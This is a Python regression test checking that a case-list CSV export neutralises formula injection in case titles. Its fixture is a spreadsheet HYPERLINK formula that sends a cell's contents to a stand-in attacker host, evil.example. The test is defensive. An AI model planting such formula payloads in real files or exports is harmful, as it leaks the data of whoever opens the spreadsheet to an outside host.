"""The case list export: CSV a spreadsheet opens as text."""

from __future__ import annotations

import csv
import io

from tests.cases.factories import make_case
from tests.factories import World, verified_client


def test_finding_9_csv_injection_in_a_case_title_is_neutralised(world: World) -> None:
    officer = world["police_officer"]
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    make_case(officer, title=title)
    response = verified_client(world["police_manager"]).get("/cases/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    titles = [r["title"] for r in rows]
    assert "'" + title in titles
    assert all(not t.startswith(("=", "+", "-", "@")) for t in titles)
